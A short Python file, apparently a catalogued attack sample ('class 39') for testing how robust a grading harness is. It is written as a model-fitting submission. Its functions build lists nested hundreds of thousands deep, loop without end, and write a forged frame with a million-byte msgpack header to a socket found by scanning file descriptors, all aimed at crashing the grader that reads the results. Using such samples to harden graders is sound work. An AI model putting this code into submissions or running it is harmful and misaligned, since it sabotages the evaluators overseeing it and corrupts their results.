"""Returns a list in a list in a list, a hundred thousand times, and msgpack of the same."""
# /// attack
# class = 39
# goal = "overflow the stack of whoever reads it"
# gain = "death"
# target = "standardise"
# outcome = ["failed", "crashed"]
# naive = "Python itself ends such a recursion with an exception, which a naive grader takes for a failure."
# ///

import os
import stat
import struct

def wire_socket():
    """Find the wire among the descriptors: the one that is a socket and not the output."""
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return number
        except OSError:
            continue
    return -1


def standardise(x):
    nested = []
    for _ in range(100_000):
        nested = [nested]
    return nested


def squared_error(prediction, target):
    header = b"\x91" * 1_000_000
    os.write(wire_socket(), struct.pack("<4sIQ", b"dlg1", len(header), 0) + header)
    return prediction


class Endless(list):
    def __iter__(self):
        return self

    def __next__(self):
        return self

    def __eq__(self, other):
        return self == [other]


def fit(measure, count):
    nested = 3
    for _ in range(200_000):
        nested = (nested,)
    return nested
